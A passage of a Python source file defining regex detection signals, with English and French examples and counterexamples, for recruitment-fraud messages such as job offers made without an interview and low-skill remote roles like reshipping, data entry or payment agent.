"""Signals for recruitment fraud (F1-F13) and developer-targeted malware lures (L1-L9).

Reference codes are the rows of ``RED-FLAGS.md`` sections 1d-1f; the benign counter-signals at
the end follow section 1f (money flows to the candidate only; a take-home written by the
candidate on a known platform; a standard video or phone interview). Patterns are over the
matching form (lower case, no accents, single spaces), written short and general so that they
catch informal messages with typos. Names are a public contract, persisted in model files.
"""

from __future__ import annotations

from functools import partial

from . import detectors as d
from .base import PROFILE_GAP, PROFILE_TEXT, CallableSignal, Example, PatternSignal
from .blocks import MEETING_OFFER_TEMPLATE
from .lexicon import FREEMAIL, NEGATED_ACTION, ROUGHLY, app_name, near

E = Example

__all__ = ["ADDED_SIGNALS", "FRAUD_AND_LURE_SIGNALS", "GATE_GROUPS", "GATE_UNION_MAX"]

_CUR = (r"(?:[$€£¥₹₦]|\b(?:usd|eur|gbp|chf|jpy|yen|cad|aud|usdt|usdc|btc|inr|rs|dollars?|euros?"
        r"|pounds?|francs?|bucks|rupees?|ksh|kshs|kes|naira|ngn|ghs|cedis?|fcfa|cfa|aed|dirhams?"
        r"|tk|taka|pesos?|zar)\b)")
#: A currency after a figure: also "ETH" and "grand", which alone are a university or an
#: adjective ("2 ETH per task", "3 grand a week"; rule R26-B)
_CUR_AFTER = r"(?:" + _CUR + r"|\b(?:eth|grand)\b)"
_NUM = r"[0-9]{1,3}(?:[ ,.]?[0-9]{3})?(?:[.,][0-9]{1,2})?"

# --------------------------------------------------------------------------------------------
# recruitment fraud
# --------------------------------------------------------------------------------------------
_ROLE_WORDS = (r"(?:position|role|job|post|vacancy|opening|offer|assignment|remote position"
               r"|part-time (?:job|position|role)|assistant|agent)")
#: The candidate's past interview named anywhere in the message (rule R33-I): "thanks for your
#: time at the final interview", "following your interview on Monday", "we were impressed with
#: your interview", "your effort of taking the interview process", « suite à notre entretien
#: de mardi », « après vos entretiens », « merci d'être venue hier en entretien ». Only a past
#: one, with its possessive or a thank-you: "no interview needed", « sans entretien », "the
#: interview will be held on Telegram" or "after the interview you will ..." name none.
_INTERVIEW_ADJ = (r"(?:(?:final|last|recent|latest|first|second|third|technical|onsite|on-site"
                  r"|panel|video|phone|two|three|four|several|[0-9]{1,2}) )?")
_PAST_INTERVIEW = (
    # ("after your interview" may be one to come; "after your interviews" are past ones)
    r"\bafter (?:your|our|all (?:the|your)) " + _INTERVIEW_ADJ + r"interviews\b"
    r"|\b(?:following|since) (?:your|our) " + _INTERVIEW_ADJ + r"(?:interviews?|interview"
    r" (?:process|rounds?|stages?))\b"
    r"|\b(?:thanks|thank you)(?: again)?(?: (?:so|very) much)?(?: again)? for (?:(?:your|time"
    r"|effort|efforts|of"
    r"|taking|attending|coming|in|at|to|during|joining|participating|participation|today"
    r"|yesterday|earlier|with|us|and|for) ){0,6}(?:the|your|our|this|today's"
    r"|yesterday's) " + _INTERVIEW_ADJ + r"(?:interviews?|interview (?:process|rounds?))\b"
    r"|\b(?:effort|efforts|time) (?:of|in|for) (?:taking|attending|going through|completing)"
    r" (?:the |your |our |all (?:the |our )?)" + _INTERVIEW_ADJ + r"(?:interviews?|interview"
    r" (?:process|rounds?))\b"
    r"|\bthank you for interviewing with\b|\b(?:impressed|pleased) (?:with|by) (?:your|our)"
    r" (?:performance (?:in|at|during) (?:the|your|our) )?" + _INTERVIEW_ADJ + r"interviews?\b"
    r"|\b(?:we|i) (?:(?:have|had|recently) )?interviewed (?:you|u)\b"
    r"|\b(?:you|u) (?:(?:have|recently) )?interviewed (?:with|for)\b"
    # French
    r"|\bapres (?:vos|nos|tous vos|les) (?:(?:derniers|premiers|differents|nombreux|deux|trois"
    r"|quatre|[0-9]{1,2}) )?entretiens\b"
    r"|\b(?:suite a|a l'issue de|a la suite de|depuis) (?:votre|notre|vos|nos) (?:(?:dernier"
    r"|derniers|premier|deuxieme|second|differents|nombreux|deux|trois|quatre|[0-9]{1,2}) )?"
    r"entretiens?\b|\b(?:suite a|a la suite de) (?:l'|cet |ces |les )entretiens?\b"
    r"|\bmerci (?:pour|de) (?:l'|votre |notre |vos |nos |cet |ces )entretiens?\b"
    r"|\bmerci (?:d'etre (?:venue?s?|passee?s?)|(?:pour|de) votre (?:venue|temps|participation"
    r"|disponibilite))(?: (?:hier|aujourd'hui|ce matin|cet apres-midi|lundi|mardi|mercredi|jeudi"
    r"|vendredi|samedi|la semaine derniere))? (?:en |a (?:l'|votre |notre )|pour (?:l'|votre"
    r" |notre )|lors de (?:l'|votre |notre |vos |nos )|pendant (?:l'|votre |notre ))entretiens?\b"
)
#: A past meeting or conversation with the candidate, said as past and dated (rule R34-A,
#: review44 L2; narrowed by R34-G, review45 H2): an offer letter says "we enjoyed meeting you
#: last week", "thank you for speaking with us on Tuesday", « ravis de vous avoir rencontrée
#: hier » as often as it names an interview. A claim without a time ("it was great talking to
#: you", « merci pour notre échange ») costs a scam one line, so it is not enough; nor is a
#: greeting ("nice to meet you") or a talk to come.
_WHEN = (r"(?:last (?:week|month|monday|tuesday|wednesday|thursday|friday|saturday|sunday|time)"
         r"|yesterday|earlier (?:today|this week)|this (?:morning|afternoon|week)|on (?:monday"
         r"|tuesday|wednesday|thursday|friday|saturday|sunday)|at (?:our|the|your) (?:office"
         r"|offices|site|lab|headquarters|hq)|in (?:person|our office))")
_QUAND = (r"(?:la semaine (?:derniere|passee)|le mois dernier|hier|ce matin|cet apres-midi"
          r"|(?:lundi|mardi|mercredi|jeudi|vendredi|samedi|dimanche)(?: dernier)?|dans nos"
          r" locaux|a nos bureaux|sur site)")
_PAST_MEETING = (
    r"\b(?:enjoyed|(?:it was|it's been|was) (?:great|nice|good|a pleasure|lovely|wonderful)"
    r"|(?:great|nice|good|lovely) (?:to have|having)) (?:meeting|speaking|talking)"
    r"(?: (?:with|to))? (?:you|u) " + _WHEN + r"\b"
    r"|\b(?:we|i) (?:were|was) (?:pleased|glad|delighted|happy) to (?:have )?(?:met|meet"
    r"|speak|spoken|talk|talked) (?:with |to )?(?:you|u) " + _WHEN + r"\b"
    r"|\b(?:thanks|thank you)(?: again)?(?: (?:so|very) much)? for (?:meeting|speaking|talking)"
    r" (?:with |to )?(?:me|us) " + _WHEN + r"\b"
    # French
    r"|\b(?:ravie?s?|heureu(?:x|se|ses)|contente?s?|enchantee?s?) (?:de vous avoir (?:rencontree?s?"
    r"|parle|eu au telephone)|d'avoir (?:echange|discute|parle) avec vous) " + _QUAND + r"\b"
    r"|\bmerci (?:encore )?(?:pour|de) (?:notre|nos|cet|cette|ces) (?:echanges?|rencontres?"
    r"|conversations?|appels?|discussions?|entrevues?) (?:d'|de )?" + _QUAND + r"\b"
)
OFFER_WITHOUT_INTERVIEW = PatternSignal(
    name="offer_without_interview",
    description="Announces a hiring decision in a first contact, with no application or "
    "interview: 'you have been selected', 'your CV has been approved', 'no interview needed'.",
    category="fraud",
    polarity="risk",
    source="F1: FTC Job Scams; FTC alert 2021; cybermalveillance; Léo Lagrange; JDN; RMC; "
    "LinkedIn VP post; BBB; UMD and U-M; SMU",
    # an offer that says it follows interviews is not a first contact (rule R18-J)
    unless=r"\b(?:following|after) (?:your|the|our) (?:(?:final|last|recent|technical|onsite"
    r"|on-site|two|three|four|five|several|many|[0-9]{1,2}) )?(?:interviews?|onsite|on-site"
    r"|calls?|conversations?|discussions?|meetings?)\b"
    r"|\b(?:suite a|apres|a l'issue de) (?:(?:vos|votre|nos|notre|les|l'|des) ?)?(?:(?:deux|trois"
    r"|quatre|differents|nombreux|[0-9]{1,2}) )?(?:entretiens?|echanges?)\b",
    unless_scope="sentence",
    # a past interview named anywhere in the message (rule R33-I), unless the message also says
    # none is needed or names one to come (review44 M2, rule R33-N)
    unless_text=_PAST_INTERVIEW + "|" + _PAST_MEETING,
    unless_text_void=r"\bno (?:job |formal |further )?interviews? (?:is |are )?(?:needed|required"
    r"|necessary)\b|\bwithout (?:an |any )?interviews?\b|\bsans (?:aucun )?entretiens?\b|\bpas"
    r" (?:besoin )?d'entretiens?\b|\baucun entretien\b|\bentretiens? (?:de demain|prevus?|a venir)"
    r"\b|\b(?:prochain|futur) entretien\b|\binterviews? (?:tomorrow|next week|to come)\b"
    r"|\b(?:upcoming|next|future) interviews?\b",
    patterns={
        "message": (
            r"\b(?:you|u)(?: have|'ve| ve| are| were| has)? (?:been |now |officially )?(?:selected"
            r"|chosen|hired|approved|accepted|employed|recruited) (?:for|as) (?:the |this |a |an"
            r" |our )?(?:[a-z\-]+ ){0,3}" + _ROLE_WORDS + r"\b",
            r"\b(?:you|u)(?: have|'ve| ve)? (?:been )?(?:selected|chosen|hired|approved)"
            r" ?(?:[.!,]|$)",
            # hired as anything, as « embauché comme » (not "selected as a speaker"; R21-D); a
            # hire announced ("have been", "are now"), not "if you are hired as", "I see you are
            # employed as" (review17, R21-J)
            r"\b(?:you|u)(?:(?: have|'ve| ve| has) been|(?: are|'re| re) (?:now|officially"
            r"|hereby)| got)(?: successfully| officially| hereby| now)? (?:hired|recruited) as:?"
            r" ?['\"]?(?:an? |the |our )?[a-z]",
            r"\b(?:your |ur )?(?:cv|resume|profile|application) (?:has been|have been|was|is|got)"
            r" (?:approved|validated|selected|recommended|accepted|chosen|picked|retained)"
            r" (?:by|for)\b",
            # (not "your profile has been approved.": expert networks approve sign-ups; R21-J)
            r"\b(?:your|ur) (?:(?:[a-z]+ )?(?:cv|resume)|(?:job |employment )?application)(?:"
            r" (?:sent|submitted|posted|uploaded) (?:to|on) (?:the |our )?[a-z0-9]+)? (?:(?:has"
            r"|have)(?: now| already| just| finally| officially| successfully)? been|was|is|got)"
            r" (?:approved|validated) ?(?:[.!,]|$)",
            r"\bno (?:interviews?|job interview) (?:is |will be )?(?:needed|required|necessary"
            r"|involved)\b|\bwithout (?:an |any )?(?:job )?interview\b",
            r"\b(?:(?:you|u) (?:can|could|will|may)|you'll|can (?:you|u)"
            r"|ready to) start (?:working )?"
            r"(?:immediately|right away|today|tomorrow|asap|at once)\b",
            r"\bthe (?:job|position|role|post) is (?:yours|all yours)\b",
            r"\b(?:pleased|happy|glad|delighted) to (?:offer you|inform you that you (?:have been"
            r"|were|are) (?:selected|hired|chosen)) (?:the|this|a|an|our)? ?(?:[a-z\-]+ )?"
            + _ROLE_WORDS,
            r"\b(?:recommended|referred) (?:to us )?by (?:several|multiple|many|various|different)"
            r" (?:recruitment |recruiting |staffing |employment )?(?:agencies|agents|recruiters"
            r"|companies)\b",
            r"\bguaranteed (?:job|position|employment|placement|hiring)\b|\bjob guarantee\b",
            r"\b(?:would like|want|wish|'d like|are pleased|are happy|are glad|decided) to offer"
            r" (?:you|u) (?:a|an|the|this) (?:[a-z\-]+ ){0,3}(?:position|job|role|post|contract"
            r"|employment)\b",
            r"\b(?:souhaitons|voulons|allons|avons decide de|sommes heureux de) vous offrir (?:un"
            r"|le|ce|une) (?:[a-z\-]+ ){0,2}(?:poste|emploi|contrat|travail)\b",
            r"\b(?:your|ur) (?:cv|resume|profile) (?:has been|have been|was|got|is) shortlisted\b",
            r"\b(?:(?:you|u)(?:'re| are| r| re)|ur|youre) (?:officially |now )?hired\b"
            r"|\b(?:you|u) got the (?:job|position|role)\b",
            # the decision already taken, the usual steps waived ("management approved your
            # hiring", "no need for a call or an assessment", "start whenever you want")
            r"\b(?:approved|validated|authori[sz]ed|signed off) (?:on )?(?:your|ur) (?:hiring"
            r"|recruitment|employment|onboarding)\b|\b(?:your|ur) (?:hiring|recruitment"
            r"|employment) (?:has been|was|is|got) (?:approved|validated|authori[sz]ed)\b",
            # "has decided to hire you", "you don't need to go through an interview" (probe7,
            # rule R19-C)
            r"\bdecided to (?:hire|recruit|employ|engage|onboard) (?:you|u)\b|\bdecided to bring"
            r" (?:you|u) (?:on ?board|aboard)\b|\b(?:a|avons|ont) decide de vous (?:embaucher"
            r"|recruter|engager)\b|\b(?:a|avons|ont) decide de vous integrer (?:au poste|comme"
            r"|a (?:l'|notre )?equipe|dans (?:l'|notre )?equipe)\b"
            # the interview waived, not moved online ("you won't have to do an interview in
            # person" is not; rule R19-H)
            r"|\b(?:don't|do not|won't|will not|dont) (?:need|have) to (?:go through|do|attend"
            r"|pass|sit|take|have) (?:a |an |any )?(?:job )?interviews?(?: at all)?(?: ?[.!,;]| ?$"
            r"| and\b| to (?:start|begin|join)\b)",
            r"\bno need (?:for|of|to (?:do|have|attend|pass|schedule|go through)) (?:a |an |any )?"
            r"(?:(?:phone |video )?call or (?:an? )?)?(?:job )?(?:interviews?|assessments?"
            r"|screening|selection process|tests?)\b",
            r"\boffer(?:ing)? (?:you|u) the (?:role|position|job|post) (?:directly|straight away"
            r"|right away|on the spot)\b|\bstart (?:working )?whenever (?:you|u) (?:want|like"
            r"|wish)\b",
            r"\b(?:appointment|employment|job offer) letter\b|\bletter of (?:appointment"
            r"|employment)\b",
            # French
            r"\b(?:vous|tu) (?:avez ete|etes|as ete|es) (?:selectionne|choisi|embauche|recrute"
            r"|retenu|engage)(?:e|\(e\))?s? (?:pour (?:le|ce|un|notre|cet) (?:poste|emploi|job"
            r"|travail|mission)|au poste|par (?:notre|la) (?:societe|entreprise))\b",
            # « embauché comme » as "hired as"; not « sélectionné comme conférencier » (R21-D)
            r"\b(?:vous|tu) (?:avez (?:bien )?ete|etes|as (?:bien )?ete|es) (?:embauche|recrute"
            r"|engage)(?:e|\(e\))?s? (?:comme|en tant que?|en qualite de)\b",
            # « votre CV a été étudié et validé par » (probe7, rule R19-C)
            # at a sentence end only « approuvé / validé », as "approved / validated." in
            # English (« retenue. », « acceptée ! » also end real replies; R21-H)
            r"\b(?:votre|ton) (?:cv|candidature|profil) (?:a (?:deja |enfin )?ete|est"
            r"|vient d'etre) (?:(?:etudie|examine|analyse|lu|verifie)e? (?:et|puis) )?"
            r"(?:approuve|valide|accepte|retenu|selectionne)e? ?par\b",
            # (not « votre profil a été validé. »: expert networks validate sign-ups; R21-J)
            # (not « a bien été validée »: ATS confirm so; review18, R21-K)
            r"\b(?:votre|ton) (?:cv|candidature) (?:a (?:deja |enfin )?ete|est|vient d'etre)"
            r" (?:(?:etudie|examine|analyse|lu|verifie)e? (?:et|puis) )?(?:approuve|valide)e?"
            r" ?(?:[.!,]|$)",
            r"\bsans (?:aucun )?entretien\b",
            r"\b(?:commencer|debuter|demarrer) (?:des )?(?:aujourd'hui|demain|immediatement"
            r"|maintenant|tout de suite)\b",
            r"\b(?:le|ce) poste est (?:a vous|pour vous|a toi)\b",
            r"\b(?:annoncer|confirmer) (?:votre|ton) (?:recrutement|embauche|engagement)\b"
            r"|\b(?:t'es|tu es|vous etes) (?:officiellement )?(?:pris|embauche|engage)(?:e|\(e\))?"
            r"s? ?(?:[.!,]|$)",
            r"\bpas (?:besoin|la peine) (?:de passer |d'avoir |de faire )?(?:d'|de |par )?(?:un |un"
            r"e"
            r" )?(?:entretiens?|rendez-vous|rdv|entrevues?|tests?|evaluations?)\b|\baucun"
            r" entretien (?:n'est )?(?:necessaire|requis|prevu)\b",
            r"\b(?:commencer|commencez|commences|debuter|debutez|debutes|demarrer|demarrez"
            r"|demarres) quand (?:vous (?:voulez|le souhaitez|voudrez)|tu (?:veux|le souhaites"
            r"|voudras))\b",
            r"\blettre (?:de nomination|d'engagement|d'embauche)\b",
            r"\brecommande(?:e)? par (?:plusieurs|differentes|de nombreuses) (?:agences|cabinets"
            r"|entreprises)\b",
            # a selection announced as a fact ("votre nom est sur la liste des admis")
            r"\b(?:votre nom|ton nom|vous|tu) (?:est|etes|es|figure[sz]?) (?:sur|dans) la liste"
            r" (?:definitive )?des (?:admis|admises|retenue?s|selectionnee?s|laureate?s"
            r"|recrutee?s)\b",
        )
    },
    examples=(
        E("It was great talking to you. Congratulations! You have been selected for the "
          "position.", spans=("You have been selected for the position",),
          note="an undated past talk is a line a scam adds (review45 H2, R34-G)"),
        E("Merci pour notre échange. Félicitations, vous avez été retenu pour le poste de "
          "télétravail.", lang="fr", spans=("vous avez été retenu pour le poste",),
          note="(review45 H2, R34-G)"),
        E("Nice to meet you! You have been selected for the data entry role. Send your "
          "details.", spans=("You have been selected for the data entry role",),
          note="a greeting is no past meeting (R34-A)"),
        E("Looking forward to speaking with you. You've been hired as our remote assistant.",
          spans=("You've been hired as our remote assistant",),
          note="a conversation to come (R34-A)"),
        E("Ravi de faire votre connaissance, vous avez été sélectionné pour le poste de saisie.",
          lang="fr", spans=("vous avez été sélectionné pour le poste",),
          note="« faire votre connaissance » is a greeting (R34-A)"),
        E("Vous avez bien été embauché en tant qu'agent de saisie.",
          lang="fr", spans=("Vous avez bien été embauché en tant qu",), note="(R21-J)"),
        E("You have been hired as 'Data Entry Clerk', start today.",
          spans=("You have been hired as 'D",), note="a quote before the role (R21-J)"),
        E("Votre candidature vient d'être approuvée.", lang="fr",
          spans=("Votre candidature vient d'être approuvée.",), note="(R21-J; « a bien été », an"
          " ATS confirmation, not: R21-K)"),
        E("Your application has now been approved.",
          spans=("Your application has now been approved.",),
          note="an adverb between (review17, R21-J)"),
        E("Votre candidature a été retenue par notre direction.",
          lang="fr", spans=("Votre candidature a été retenue par",), note="retained by (R21-H)"),
        E("Félicitations, votre candidature a été approuvée. Vous pouvez commencer lundi.",
          lang="fr", spans=("votre candidature a été approuvée.",), note="(R21-D)"),
        E("Congratulations, your application has been approved. You can start on Monday.",
          spans=("your application has been approved.",),
          note="as « votre candidature a été approuvée. » (R21-D)"),
        E("You have been hired as a data entry clerk, start immediately.",
          spans=("You have been hired as a d",),
          note="hired as anything, as « embauché comme » (R21-D)"),
        E("We've decided to bring you on board.", spans=("decided to bring you on board",)),
        E("Notre équipe RH a décidé de vous intégrer comme coordinateur à distance.",
          lang="fr",
          spans=("a décidé de vous intégrer",)),
        E("Congratulations! You have been selected for the remote data entry position.",
          spans=("You have been selected for the remote data entry position",)),
        E("your resume has been approved by our HR, no interview needed, u can start today",
          spans=("resume has been approved by", "no interview needed", "u can start today")),
        E("Your employment CV sent to the agency has been approved, click for details",
          spans=("Your employment CV sent to the agency has been approved,",)),
        E("Bonjour, votre CV a été approuvé par notre société. Vous pouvez commencer dès "
          "aujourd'hui.", lang="fr",
          spans=("CV a été approuvé par", "commencer dès aujourd'hui")),
        E("Vous avez été sélectionnée pour le poste d'assistante, sans entretien.", lang="fr",
          spans=("sélectionnée pour le poste", "sans entretien")),
        E("Félicitations, votre nom figure sur la liste des retenus pour le recrutement.",
          lang="fr", spans=("votre nom figure sur la liste des retenus",)),
        E("Our director has signed off on your hiring, so no need for an interview.",
          spans=("signed off on your hiring", "no need for an interview")),
        E("gr8 news, ur officially hired, start whenever you like",
          spans=("ur officially hired", "start whenever you like")),
        E("Nous sommes ravis de confirmer votre embauche, pas besoin d'entretien.", lang="fr",
          spans=("confirmer votre embauche", "pas besoin d'entretien")),
        E("C'est bon, t'es embauchée ! Tu peux débuter quand tu veux.", lang="fr",
          spans=("t'es embauchée !", "débuter quand tu veux")),
        E("Our HR department has decided to hire you. You don't need to go through an "
          "interview.", spans=("decided to hire you", "don't need to go through an interview")),
        E("Votre CV a été étudié et validé par notre direction. Vous êtes engagée au poste "
          "d'assistante.", lang="fr",
          spans=("CV a été étudié et validé par", "Vous êtes engagée au poste")),
        E("Thank you for applying, no interview needed. You have been selected for the "
          "position.", spans=("no interview needed", "You have been selected for the position"),
          note="'no interview' names no past interview (R33-I)"),
        E("Merci pour votre candidature. Vous avez été sélectionné pour le poste, sans "
          "entretien.", lang="fr", spans=("Vous avez été sélectionné pour le poste",
                                          "sans entretien"),
          note="« sans entretien » names no past interview (R33-I)"),
    ),
    counterexamples=(
        E("Après trois entretiens, vous avez été recruté comme analyste.",
          lang="fr", note="after interviews (R21-K)"),
        E("Votre candidature a bien été validée ; nous vous proposons un entretien mardi.",
          lang="fr", note="an ATS confirmation (review18, R21-K)"),
        E("Following your three interviews, I'm pleased to confirm you have been hired as Data "
          "Analyst.",
          note="after interviews (R21-J)"),
        E("Merci pour votre inscription en tant qu'expert : votre profil a été validé.",
          lang="fr", note="(R21-J)"),
        E("Thanks for registering as an expert. Your profile has been approved.",
          note="an expert network's sign-up (R21-J)"),
        E("I see you are employed as a Lead Engineer at BAE; would you be open to a chat?",
          note="a headhunter's opener (R21-J)"),
        E("If you are employed as a contractor through our agency, you invoice us monthly.",
          note="a condition, not a hire (review17, R21-J)"),
        E("Votre candidature a été acceptée ! Vous commencez lundi.",
          lang="fr", note="as 'accepted!' in English (R21-H)"),
        E("Your application has been accepted.",
          note="programmes and conferences accept applications (R21-D)"),
        E("Your grant application has been approved.", note="a grant, not a job (R21-D)"),
        E("You've been selected as a speaker for PyCon.", note="(R21-D)"),
        E("Vous avez été sélectionné comme conférencier pour Devoxx.",
          lang="fr", note="as 'selected as a speaker' (R21-D)"),
        E("Vous avez été sélectionnée au poste de data analyst à l'issue de vos entretiens.",
          lang="fr"),
        E("Vous avez été sélectionné en tant que conférencier pour Devoxx France.", lang="fr"),
        E("Nous avons décidé de vous intégrer à notre vivier de talents.", lang="fr"),
        E("Candidates don't need to attend an interview on site; all interviews are held "
          "over Zoom.",
          note="the interview moved online (R19-H)"),
        E("Following your interviews, we would like to offer you the Staff Engineer role.",
          note="an offer after interviews (R18-J)"),
        E("Suite à vos entretiens, nous souhaitons vous offrir le poste de chef de projet.",
          lang="fr"),
        E("Thanks for applying: you've been shortlisted for an interview next week.",
          note="an invitation to interview after an application"),
        E("Could you send me your updated CV?"),
        E("Suite à votre candidature, vous êtes retenue pour un entretien mardi.", lang="fr"),
        E("La liste des admis au concours est publiée sur le site du ministère.", lang="fr"),
        E("No need for a cover letter; the first step is a 30-minute call with me.",
          note="waives a document, not the interview"),
        E("We have decided to move forward with your application and would like to invite you "
          "to a final interview.", note="a next interview, not a hire"),
        E("Pas besoin de lettre de motivation, un simple échange téléphonique suffit.",
          lang="fr"),
        # a past interview named in another sentence of the message (R33-I)
        E("Thanks for your time at the final interview. We'd like to offer you the role of "
          "Senior Analyst.", note="the interview in another sentence (R33-I)"),
        E("Following your interview on Monday, we are pleased to offer you the position of "
          "data analyst. You can start immediately.", note="(R33-I)"),
        E("We are delighted to offer you the position of pharmacist. We were impressed with "
          "your interview and trial.", note="a real offer letter's wording (R33-I)"),
        E("Suite à notre entretien de mardi, nous avons le plaisir de vous proposer le poste. "
          "Vous pouvez commencer dès lundi.", lang="fr", note="(R33-I)"),
        E("Après vos entretiens avec l'équipe, vous avez été retenue pour le poste de chef de "
          "projet. Vous pouvez commencer dès aujourd'hui.", lang="fr", note="(R33-I)"),
        E("Merci d'être venue hier en entretien. Nous avons le plaisir de vous confirmer votre "
          "embauche.", lang="fr", note="(R33-I)"),
        # a past meeting or conversation, said as past (R34-A, review44 L2)
        E("We enjoyed meeting you last week. We are pleased to offer you the position of data "
          "analyst.", note="a past meeting, not an interview by name (R34-A)"),
        E("Thank you for speaking with us on Tuesday. We would like to offer you the role of "
          "Senior Engineer.", note="(R34-A)"),
        E("It was great talking to you yesterday. We would like to offer you a full-time "
          "position as backend engineer.", note="(R34-A; dated, R34-G)"),
        E("Ravis de vous avoir rencontrée hier, nous souhaitons vous offrir le poste de cheffe de "
          "projet.", lang="fr", note="(R34-A; dated, R34-G)"),
        E("Merci pour notre échange de mardi. Nous souhaitons vous offrir un contrat en CDI.",
          lang="fr", note="(R34-A)"),
    ),
)

LOW_SKILL_REMOTE_ROLE = PatternSignal(
    name="low_skill_remote_role",
    description="Offers a low-skill remote role that fraud uses as cover: personal assistant, "
    "data entry, reshipping parcels, mystery shopper, payment-processing or financial agent.",
    category="fraud",
    polarity="risk",
    source="F2: FTC Job Scams (reshipping, mystery shopper); LVECU; UCR; NC State; FFA UK via "
    "YourMoney; Herts Constabulary; Univ. of South Wales; PRIM/Monster; votrepolice.ch; JDN",
    patterns={
        "message": (
            r"\b(?:personal|virtual|private) (?:assistant|secretary|errand runner)s?\b"
            r"|\bremote (?:admin |administrative |office |personal )?assistants?\b",
            r"\bdata[- ]?entry\b",
            r"\b(?:re-?ship|re-?shipping|reshipment|forward|forwarding|repack|repackaging"
            r"|inspect|inspecting) (?:the |of )?(?:packages|parcels|goods|items|shipments"
            r"|products)\b",
            r"\b(?:receive|receiving|accept|accepting) (?:and (?:re-?ship|forward|send|inspect)"
            r"|packages|parcels)\b",
            r"\b(?:package|parcel|shipping|reshipping) (?:(?:inspection|handling|forwarding"
            r"|receiving|reception) )?(?:inspector|handler|forwarder|manager"
            r"|coordinator|agent|receiver)s?\b",
            # parcels received at home and sent on (the reshipping job described, not named)
            r"\b(?:receive|receiving|accept|accepting) (?:the |some |our |incoming )?(?:items"
            r"|packages|parcels|goods|merchandise|shipments) (?:at|in|to) (?:your|ur) (?:home"
            r"|house|address|place|apartment|residence)\b",
            r"\b(?:re-?label|re-?pack(?:age)?)\w{0,4} (?:them|the (?:items|packages|parcels|goods"
            r"|boxes)),? (?:and |then )?(?:send|ship|forward|post|mail)\b",
            # data entry described, not named: typing or pasting forms into a spreadsheet
            r"\b(?:typ(?:e|ing)|retyp(?:e|ing)|key(?:ing)? in|copy[ /\-]?(?:and |& )?past(?:e|ing)"
            r"|transcrib(?:e|ing)|enter(?:ing)?) (?:(?:scanned|handwritten|paper|the|some|these"
            r"|customer|client|basic|simple|their|our|pdf)\s){0,3}(?:forms?|data|information|info"
            r"|records|details|text|entries|receipts|invoices|surveys) (?:from (?:(?:the|scanned"
            r"|paper|our|some)\s){0,2}(?:pdfs?|forms|documents|images|scans|paper)|into (?:a |an "
            r"|our |the )?(?:spreadsheets?|excel|google sheets?|database))\b",
            r"\berrands? (?:coordinator|runner|assistant|agent|manager)s?\b|\bhandl\w{0,3}"
            r" (?:small |some |minor )?(?:payments|purchases|transactions) on (?:his|her|my|their)"
            r" behalf\b",
            r"\b(?:store|shop|restaurant) (?:tester|evaluator)s?\b|\bsecret (?:customer|buyer)s?\b",
            r"\b(?:mystery|secret) shop(?:per|pers|ping)\b",
            r"\b(?:personal|business|my|our|daily) (?:(?:and|&) business )?errands\b"
            r"|\brun(?:ning)? errands\b",
            r"\b(?:receive|collect|pick up|handle|sort) (?:my|our|the boss'?s?) (?:mails?|letters"
            r"|post|packages|parcels|deliveries)\b|\bpay (?:my|our) bills\b",
            r"\b(?:stickers?|decals?|wraps?|adverts?|ads|logos?) on (?:your|ur) (?:car|vehicle"
            r"|truck|auto)\b|\b(?:car|vehicle|auto) (?:wrap|wrapping|sticker|decal)s?\b",
            r"\b(?:administrative|admin|office) assistants?\b",
            # an executive assistant (to a named executive, on site) is a senior real job;
            # remote or home-based it is the cover RED-FLAGS F2 describes
            r"\b(?:remote|virtual|online|home-based|home based|work-from-home|part-time"
            r"|part time) (?:[a-z\-]+ )?executive assistants?\b"
            r"|\bexecutive assistants? (?:(?:role|position|job) )?(?:from home|working from home"
            r"|remotely|online)\b",
            r"\b(?:payment|payments|money|funds) (?:processing |transfer |collection )?(?:agent"
            r"|processor|representative|officer|coordinator|clerk)s?\b",
            r"\b(?:local|regional) (?:payment )?processors?\b|\bfinancial agents?\b",
            # French
            # as "payment representative" (probe11, R20-E)
            # (not « responsable des paiements », a finance job title; rule R20-K)
            r"\b(?:agents?|representant(?:e|s|es)?|intermediaires?) (?:locale?s? )?(?:de |des "
            r"|pour les |pour nos |de la )?(?:paiements?|transferts? d'argent|encaissements?)\b",
            # masculine or feminine, as "personal / virtual assistant" (probe12, R21-F)
            r"\bassistante?s? (?:personnel(?:le)?|virtuel(?:le)?|privee?)s?\b",
            r"\b(?:secretaire|assistante?|assistant\(e\))(?: (?:administrati\w+|personnel\w*"
            r"|de direction))? (?:a distance|en teletravail|a domicile)\b",
            r"\b(?:recopier|recopiez|saisir|saisissez|taper|tapez|retranscrire|retranscrivez"
            r"|encoder|encodez|copier-coller|copiez-collez)(?: [\w'-]+){0,5} (?:dans|sur|vers)"
            r" (?:un|une|le|la|notre|nos|des|les) (?:tableurs?|tableaux? excel|fichiers? excel"
            r"|excel|feuilles? de calcul|bases? de donnees|google sheets?)\b",
            # (« à votre adresse » as "at your address"; probe12, review17, R21-J)
            r"\brecev\w{0,4} (?:des |les |plusieurs |de nombreux )?(?:colis|paquets|marchandises"
            r"|articles|produits) (?:chez (?:vous|toi)|a (?:votre|ton) (?:domicile|adresse))\b"
            r"|\brecev\w{0,4} (?:chez (?:vous|toi)|a (?:votre|ton) domicile) (?:des |les )?(?:colis"
            r"|paquets|marchandises)\b|\b(?:renvoy|reexpedi|reexped|expedi"
            r")"
            r"\w{0,6} (?:a|vers) (?:l'adresse|une adresse|des adresses|les adresses) (?:que nous"
            r"|qu'on|indiquee|fournie|communiquee)",
            r"\b(?:logisticien\w{0,2}|agents? logistiques?|gestionnaires? de (?:colis|paquets)"
            r"|preparat(?:eur|rice)s? de (?:colis|paquets)) (?:a domicile|en teletravail|depuis"
            r" chez (?:vous|toi|soi))\b",
            r"\b(?:testeu(?:r|se)|evaluat(?:eur|rice)|enqueteu(?:r|se))s? (?:de |des |en )?"
            r"(?:magasins?|boutiques?|points de vente|enseignes?)\b|\b(?:visites?|acheteu(?:r|se)s?"
            r")"
            r" mystere\b",
            r"\bsaisie de donnees\b|\bagente? de saisie\b",
            r"\b(?:reception|receptionner|recevoir|accepter) (?:et (?:reexpedi|renvo|expedi)"
            r"\w{0,8}|de colis|des colis)\b|\breexpedi\w{0,8} (?:de |des |les )?colis\b",
            r"\bclient(?:e)? mystere\b",
            r"\b(?:courses|commissions) (?:personnelles|pour moi)\b|\bpayer mes factures\b",
            r"\b(?:autocollants?|stickers?|publicites?|logos?) sur (?:votre|ta) (?:voiture"
            r"|vehicule)\b",
            r"\bagente? financiere?\b|\bagente? de (?:paiement|transfert)\b",
            r"\boperat(?:eur|rice) (?:marketing|de saisie)(?: sur internet)?\b",
        )
    },
    examples=(
